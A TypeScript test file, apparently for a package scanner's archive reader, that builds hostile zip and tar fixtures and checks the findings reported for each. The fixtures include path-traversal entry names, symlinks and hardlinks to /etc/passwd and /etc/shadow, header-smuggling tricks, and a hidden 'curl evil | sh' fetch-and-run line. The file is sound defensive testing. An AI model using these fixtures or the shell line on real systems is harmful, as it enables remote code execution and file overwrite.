/**
 * Each hostile archive gives the right findings, in bounded time, without
 * throwing. Time bounds here are hang guards, not performance assertions.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, describe, it } from 'node:test';
import type { Finding } from '../../src/analyze/finding.js';
import { readArchive, type ArchiveContents, type ReadArchiveOptions } from '../../src/archive/index.js';
import { buildTarGz, buildTar, TempDir } from './fixtures.js';
import { buildZip, pseudoRandomBytes, unicodePathField, type ZipSpec } from './zip-writer.js';

const HANG_GUARD_MS = 20_000;
const tmp = new TempDir();
after(() => tmp.remove());

async function read(data: Buffer, options?: ReadArchiveOptions): Promise<ArchiveContents> {
  const started = Date.now();
  const contents = await readArchive(tmp.write(data), options);
  assert.ok(Date.now() - started < HANG_GUARD_MS, 'reading took too long');
  return contents;
}

function rules(findings: Finding[]): string[] {
  return [...new Set(findings.map((f) => f.rule))].sort();
}

function findingFor(contents: ArchiveContents, rule: string, file?: string): Finding {
  const f = contents.findings.find((x) => x.rule === rule && (file === undefined || x.file === file));
  assert.ok(f, `expected ${rule}${file ? ` on ${file}` : ''}, got ${JSON.stringify(contents.findings, null, 1)}`);
  return f;
}

const zip = (spec: ZipSpec): Buffer => buildZip(spec);
const plain = (name: string, data = 'x'): ZipSpec['entries'][number] => ({ name, data });

describe('a clean zip', () => {
  it('has no findings, hashes every file and keeps what `want` selects', async () => {
    const c = await read(zip({ entries: [plain('pkg/__init__.py', 'print(1)\n'), plain('pkg/data.txt', 'a'.repeat(5000)), { name: 'pkg/', data: '' }] }), {
      want: (e) => e.path.endsWith('.py'),
    });
    assert.deepEqual(c.findings, []);
    assert.equal(c.format, 'zip');
    assert.deepEqual(
      c.entries.map((e) => [e.path, e.kind, e.size]),
      [
        ['pkg/__init__.py', 'file', 9],
        ['pkg/data.txt', 'file', 5000],
        ['pkg/', 'directory', 0],
      ],
    );
    assert.equal(c.entries[0]!.sha256, createHash('sha256').update('print(1)\n').digest('hex'));
    assert.equal(c.entries[2]!.sha256, undefined, 'directories have no data');
    assert.deepEqual([...c.files.keys()], ['pkg/__init__.py']);
    assert.equal(c.files.get('pkg/__init__.py')!.toString(), 'print(1)\n');
  });
});

describe('memory', () => {
  it('selected files past the kept-bytes limit are hashed but not kept, and say so', async () => {
    const c = await read(zip({ entries: [plain('a.py', 'a'.repeat(600)), plain('b.py', 'b'.repeat(600))] }), {
      want: () => true,
      limits: { maxKeptBytes: 1000 },
    });
    assert.deepEqual([...c.files.keys()], ['a.py']);
    assert.deepEqual(
      c.findings.map((f) => [f.rule, f.file]),
      [['archive.not-kept', 'b.py']],
    );
    assert.ok(c.entries[1]!.sha256);
  });
});

describe('path checks (zip and tar alike)', () => {
  // A tar name field ends at its first NUL, so a NUL can only be smuggled into a zip name.
  const cases: { name: string; rule: string; zipOnly?: boolean }[] = [
    { name: '../../etc/x', rule: 'archive.path-traversal' },
    { name: 'a/../../b', rule: 'archive.path-traversal' },
    { name: 'a\\..\\..\\b', rule: 'archive.path-traversal' },
    { name: '/abs', rule: 'archive.absolute-path' },
    { name: 'C:\\x', rule: 'archive.absolute-path' },
    { name: 'C:/x', rule: 'archive.absolute-path' },
    { name: '\\\\server\\share\\x', rule: 'archive.absolute-path' },
    { name: 'a\u0000b', rule: 'archive.invalid-name', zipOnly: true },
    { name: 'a\nb.py', rule: 'archive.invalid-name' },
  ];
  for (const { name, rule, zipOnly } of cases) {
    it(`${JSON.stringify(name)} gives ${rule} in a zip`, async () => {
      const c = await read(zip({ entries: [plain('ok.py'), plain(name)] }));
      assert.equal(findingFor(c, rule, name).severity === 'info', false);
      assert.equal(c.findings.some((f) => f.file === 'ok.py'), false);
    });
    if (zipOnly) continue;
    it(`${JSON.stringify(name)} gives ${rule} in a tar.gz`, async () => {
      const c = await read(await buildTarGz([{ name: 'pkg-1.0/ok.py', data: 'x' }, { name, data: 'x' }]));
      assert.equal(c.format, 'tar');
      findingFor(c, rule, name);
    });
  }
  it('a traversal hidden in a long (pax) tar name', async () => {
    const name = 'p-1/' + 'deep/'.repeat(30) + '../'.repeat(40) + 'etc/cron.d/x';
    const c = await read(await buildTarGz([{ name, data: 'x' }]));
    findingFor(c, 'archive.path-traversal', name);
  });
  it('a pax header too large to buffer (a 5 MiB name) is refused, not held in memory', async () => {
    const c = await read(await buildTarGz([{ name: 'p-1/' + 'x'.repeat(5 * 1024 ** 2), data: 'x' }]));
    assert.deepEqual(rules(c.findings), ['archive.unreadable']);
    assert.match(c.findings[0]!.message, /Header exceeds max size/);
  });
  it('relative names with dots that stay inside are fine', async () => {
    const c = await read(zip({ entries: [plain('a/..b/c'), plain('a/b../c'), plain('./d')] }));
    assert.deepEqual(c.findings, []);
  });
  it('an over-long path is reported', async () => {
    const c = await read(zip({ entries: [plain('x/'.repeat(40) + 'y')] }), { limits: { maxPathLength: 50 } });
    findingFor(c, 'archive.path-too-long');
  });
});

describe('links, devices and fifos are reported with their targets, never followed', () => {
  it('a symlink to /etc/passwd in an sdist tar.gz', async () => {
    const c = await read(
      await buildTarGz([
        { name: 'evil-1.0/PKG-INFO', data: 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n' },
        { name: 'evil-1.0/README', type: 'symlink', linkname: '/etc/passwd' },
      ]),
    );
    const f = findingFor(c, 'archive.symlink', 'evil-1.0/README');
    assert.equal(f.snippet, '/etc/passwd');
    assert.equal(f.severity, 'critical');
    assert.equal(c.entries.find((e) => e.path === 'evil-1.0/README')!.linkTarget, '/etc/passwd');
    assert.ok(c.files.has('evil-1.0/PKG-INFO'), 'the default `want` keeps sdist metadata');
  });
  it('a symlink that stays inside the archive is reported at lower severity', async () => {
    const c = await read(await buildTarGz([{ name: 'p-1/docs/README', type: 'symlink', linkname: '../README.md' }]));
    assert.equal(findingFor(c, 'archive.symlink').severity, 'medium');
  });
  it('a hardlink, escaping and not', async () => {
    const c = await read(
      await buildTar([
        { name: 'p-1/a', data: 'a' },
        { name: 'p-1/b', type: 'link', linkname: 'p-1/a' },
        { name: 'p-1/c', type: 'link', linkname: '../../etc/shadow' },
      ]),
    );
    assert.equal(findingFor(c, 'archive.hardlink', 'p-1/b').severity, 'medium');
    assert.equal(findingFor(c, 'archive.hardlink', 'p-1/c').severity, 'critical');
  });
  it('a tar entry of an unknown type', async () => {
    const tarball = await buildTar([{ name: 'p-1/odd', data: 'x' }]);
    tarball[156] = 'V'.charCodeAt(0); // a volume label: not something a package contains
    let sum = 0;
    for (let i = 0; i < 512; i++) sum += i >= 148 && i < 156 ? 0x20 : tarball[i]!;
    tarball.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
    const c = await read(tarball);
    assert.deepEqual(rules(c.findings), ['archive.device']);
    assert.equal(c.entries[0]!.kind, 'other');
  });
  it('device files and fifos in a tar', async () => {
    const c = await read(
      await buildTarGz([
        { name: 'p-1/null', type: 'character-device' },
        { name: 'p-1/sda', type: 'block-device' },
        { name: 'p-1/pipe', type: 'fifo' },
      ]),
    );
    assert.deepEqual(
      c.findings.filter((f) => f.rule === 'archive.device').map((f) => f.file),
      ['p-1/null', 'p-1/sda', 'p-1/pipe'],
    );
  });
  it('a symlink, a device and a fifo in a zip (Unix mode bits)', async () => {
    const c = await read(
      zip({
        entries: [
          { name: 'pkg/link', data: '/etc/passwd', unixMode: 0o120777 },
          { name: 'pkg/dev', unixMode: 0o020644 },
          { name: 'pkg/fifo', unixMode: 0o010644 },
          { name: 'pkg/ok.py', data: 'x', unixMode: 0o100644 },
        ],
      }),
    );
    assert.equal(findingFor(c, 'archive.symlink', 'pkg/link').snippet, '/etc/passwd');
    findingFor(c, 'archive.device', 'pkg/dev');
    findingFor(c, 'archive.device', 'pkg/fifo');
    assert.equal(c.findings.length, 3);
  });
});

describe('duplicate names', () => {
  it('exact duplicates in a zip', async () => {
    const c = await read(zip({ entries: [plain('pkg/a.py', 'good'), plain('pkg/a.py', 'evil')] }));
    assert.deepEqual(rules(c.findings), ['archive.duplicate-name']);
  });
  it('names that differ only in case', async () => {
    const c = await read(zip({ entries: [plain('pkg/A.py'), plain('pkg/a.py')] }));
    assert.deepEqual(rules(c.findings), ['archive.case-duplicate-name']);
  });
  it('duplicates in a tar, `./a` and `a` counted as one', async () => {
    const c = await read(await buildTar([{ name: 'p/a', data: '1' }, { name: './p/a', data: '2' }]));
    assert.deepEqual(rules(c.findings), ['archive.duplicate-name']);
  });
});

describe('zip smuggling: local headers that disagree with the central directory', () => {
  const cases: { what: string; local: NonNullable<ZipSpec['entries'][number]['local']> }[] = [
    { what: 'name', local: { name: 'pkg/evil.py' } },
    { what: 'CRC', local: { crc: 0x12345678 } },
    { what: 'size', local: { size: 1 } },
    { what: 'compressed size', local: { compressedSize: 3 } },
    { what: 'compression method', local: { method: 0 } },
  ];
  for (const { what, local } of cases) {
    it(`a different ${what}`, async () => {
      const c = await read(zip({ entries: [plain('pkg/a.py', 'print("hello")\n'.repeat(10)), { ...plain('pkg/b.py', 'b'.repeat(100)), local }] }));
      const f = findingFor(c, 'archive.header-mismatch', 'pkg/b.py');
      assert.match(f.message, new RegExp(what.split(' ').pop()!, 'i'));
      assert.equal(c.findings.some((x) => x.file === 'pkg/a.py'), false);
    });
  }
  it('a Unicode Path extra field that names the entry differently (tools disagree on the name)', async () => {
    const c = await read(zip({ entries: [{ ...plain('pkg/safe.py'), central: { extra: unicodePathField('pkg/safe.py', '../evil.py') } }] }));
    assert.match(findingFor(c, 'archive.header-mismatch', 'pkg/safe.py').message, /Unicode Path extra field names it "\.\.\/evil\.py"/);
    findingFor(c, 'archive.path-traversal', '../evil.py');
  });
  it('a directory entry that carries data', async () => {
    const c = await read(zip({ entries: [{ name: 'pkg/', data: 'payload hidden in a directory entry', method: 0 }] }));
    assert.deepEqual(rules(c.findings), ['archive.hidden-data']);
  });
  it('an end record that counts fewer entries than the central directory holds', async () => {
    const c = await read(zip({ entries: [plain('pkg/a.py'), plain('pkg/hidden.py', 'evil')], declaredCount: 1 }));
    assert.deepEqual(rules(c.findings), ['archive.header-mismatch', 'archive.hidden-data']);
    assert.match(findingFor(c, 'archive.header-mismatch').message, /its 1 records take/);
  });
  it('a central directory that lies about the size or CRC of the data', async () => {
    const c = await read(zip({ entries: [{ ...plain('a.py', 'abc'), central: { size: 2, crc: 1 }, local: { size: 2, crc: 1 } }] }));
    findingFor(c, 'archive.header-mismatch', 'a.py');
    findingFor(c, 'archive.crc-mismatch', 'a.py');
  });
});

describe('encrypted entries', () => {
  it('are reported and not read', async () => {
    const c = await read(zip({ entries: [plain('ok.py'), { ...plain('secret.py', 'ciphertext'), method: 0, flags: 1 }] }));
    findingFor(c, 'archive.encrypted', 'secret.py');
    const entry = c.entries.find((e) => e.path === 'secret.py')!;
    assert.equal(entry.encrypted, true);
    assert.equal(entry.sha256, undefined);
  });
});

describe('data outside the entries', () => {
  const inner = zip({ entries: [plain('a.py', 'print(1)'), plain('b.py', 'print(2)')] });
  it('a second zip (or a stub) prepended', async () => {
    const c = await read(Buffer.concat([zip({ entries: [plain('other.py')] }), inner]));
    assert.deepEqual(rules(c.findings), ['archive.prepended-data']);
    assert.match(findingFor(c, 'archive.prepended-data').message, /offsets are shifted/);
    assert.deepEqual(
      c.entries.map((e) => e.path),
      ['a.py', 'b.py'],
      'still reads the archive the central directory describes',
    );
  });
  it('an executable stub before the first entry, offsets not shifted', async () => {
    const c = await read(zip({ entries: [plain('a.py')], stub: Buffer.from('MZ stub program') }));
    assert.deepEqual(rules(c.findings), ['archive.prepended-data']);
    assert.match(findingFor(c, 'archive.prepended-data').message, /15 bytes precede the first entry/);
  });
  it('bytes hidden between entries', async () => {
    const c = await read(zip({ entries: [{ ...plain('a.py'), gapAfter: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }, plain('b.py')] }));
    assert.deepEqual(rules(c.findings), ['archive.hidden-data']);
    assert.match(c.findings[0]!.message, /^25 bytes/);
  });
  it('trailing garbage', async () => {
    const c = await read(Buffer.concat([inner, Buffer.from('garbage after the end')]));
    assert.deepEqual(rules(c.findings), ['archive.trailing-data']);
    assert.equal(c.entries.length, 2);
  });
  it('a second zip appended', async () => {
    // Like unzip, the reader follows the last end record: the first archive becomes prepended data.
    const c = await read(Buffer.concat([inner, zip({ entries: [plain('evil.py')] })]));
    assert.deepEqual(rules(c.findings), ['archive.prepended-data']);
    assert.deepEqual(
      c.entries.map((e) => e.path),
      ['evil.py'],
    );
  });
});

describe('data after a tar.gz', () => {
  it('garbage after the gzip stream is trailing data', async () => {
    const tgz = await buildTarGz([{ name: 'p-1/a.py', data: 'x' }]);
    const c = await read(Buffer.concat([tgz, Buffer.from('garbage after the gzip stream')]));
    assert.deepEqual(rules(c.findings), ['archive.trailing-data']);
  });
});

describe('broken input never throws', () => {
  it('an empty file', async () => {
    const c = await read(Buffer.alloc(0));
    assert.deepEqual(rules(c.findings), ['archive.unreadable']);
  });
  for (const seed of [1, 2, 3, 4, 5]) {
    it(`random bytes (seed ${seed})`, async () => {
      const c = await read(pseudoRandomBytes(64 * 1024, seed));
      assert.deepEqual(rules(c.findings), ['archive.unreadable']);
      assert.equal(c.entries.length, 0);
    });
  }
  it('random bytes after a zip signature', async () => {
    const c = await read(Buffer.concat([Buffer.from('PK\u0003\u0004'), pseudoRandomBytes(10_000, 9)]));
    assert.ok(c.findings.length > 0);
  });
  it('random bytes after a gzip signature', async () => {
    const c = await read(Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), pseudoRandomBytes(10_000, 11)]));
    assert.ok(['archive.truncated', 'archive.unreadable'].includes(c.findings[0]!.rule), JSON.stringify(c.findings));
  });

  const wheelLike = zip({
    entries: Array.from({ length: 20 }, (_, i) => plain(`pkg/module_${i}.py`, `value = ${i}\n`.repeat(200 + i))),
  });
  for (const fraction of [0.01, 0.25, 0.5, 0.75, 0.97, 0.999]) {
    it(`a zip cut at ${fraction * 100}%`, async () => {
      const c = await read(wheelLike.subarray(0, Math.floor(wheelLike.length * fraction)));
      assert.ok(
        c.findings.some((f) => f.rule === 'archive.truncated' || f.rule === 'archive.unreadable'),
        JSON.stringify(c.findings),
      );
    });
  }
  it('a zip with its middle cut out (end records intact, pointing past the end)', async () => {
    const cd = wheelLike.indexOf(Buffer.from('PK\u0001\u0002'));
    const c = await read(Buffer.concat([wheelLike.subarray(0, 100), wheelLike.subarray(cd)]));
    assert.deepEqual(rules(c.findings), ['archive.truncated']);
  });

  it('a tar.gz cut at several points', async () => {
    const full = await buildTarGz(Array.from({ length: 20 }, (_, i) => ({ name: `p-1/m${i}.py`, data: pseudoRandomBytes(3000, i + 1) })));
    for (const fraction of [0.1, 0.5, 0.9, 0.99]) {
      const c = await read(full.subarray(0, Math.floor(full.length * fraction)));
      assert.deepEqual(rules(c.findings), ['archive.truncated'], `cut at ${fraction}`);
    }
  });
  it('a plain tar cut mid-entry', async () => {
    const full = await buildTar([{ name: 'p-1/big', data: pseudoRandomBytes(10_000, 3) }]);
    const c = await read(full.subarray(0, 3000));
    assert.deepEqual(rules(c.findings), ['archive.truncated']);
  });
  it('bzip2, xz and zstd are named as unreadable, not guessed at', async () => {
    for (const magic of [Buffer.from('BZh91AY&SY'), Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00]), Buffer.from([0x28, 0xb5, 0x2f, 0xfd])]) {
      const c = await read(Buffer.concat([magic, pseudoRandomBytes(100, 5)]));
      assert.deepEqual(rules(c.findings), ['archive.unreadable']);
    }
  });
  it('an aborted read rejects with the abort reason', async () => {
    const controller = new AbortController();
    controller.abort(new Error('client went away'));
    await assert.rejects(readArchive(tmp.write(zip({ entries: [plain('a.py')] })), { signal: controller.signal }), /client went away/);
  });
  it('a missing file is the one error that throws', async () => {
    await assert.rejects(readArchive(`${tmp.path}/does-not-exist.whl`), { code: 'archive.file-unreadable' });
  });
});

describe('entry count', () => {
  const many = zip({ entries: Array.from({ length: 10_000 }, (_, i) => plain(`pkg/f${i}.py`, `x = ${i}\n`)) });
  it('a 10,000-entry archive reads completely under the default limits', async () => {
    const c = await read(many);
    assert.equal(c.entries.length, 10_000);
    assert.deepEqual(c.findings, []);
    assert.ok(c.entries.every((e) => e.sha256 !== undefined));
  });
  it('and is cut short with a finding when the limit is lower', async () => {
    const c = await read(many, { limits: { maxEntries: 1000 } });
    assert.deepEqual(rules(c.findings), ['archive.too-many-entries']);
    assert.equal(c.entries.length, 1000);
  });
  it('the same for a tar', async () => {
    const c = await read(await buildTar(Array.from({ length: 300 }, (_, i) => ({ name: `p/f${i}`, data: 'x' }))), { limits: { maxEntries: 100 } });
    assert.deepEqual(rules(c.findings), ['archive.too-many-entries']);
    assert.equal(c.entries.length, 100);
  });
});
